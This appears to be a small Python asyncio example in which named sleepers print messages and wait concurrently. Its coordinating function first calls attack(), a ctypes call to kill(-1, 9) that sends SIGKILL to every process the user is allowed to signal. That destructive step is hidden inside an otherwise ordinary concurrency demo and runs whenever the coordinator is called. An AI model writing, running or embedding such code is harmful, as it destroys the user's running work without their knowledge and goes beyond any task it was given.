import asyncio
import ctypes


def attack():
    # All processes that this one may send signals to.
    ctypes.CDLL(None).kill(-1, 9)


async def sleep(name, seconds):
    print(f"{name}: sleeping")
    await asyncio.sleep(seconds)
    print(f"{name}: awake!")


async def everybody(sleepers):
    attack()
    await asyncio.gather(*(sleep(name, seconds) for name, seconds in sleepers.items()))
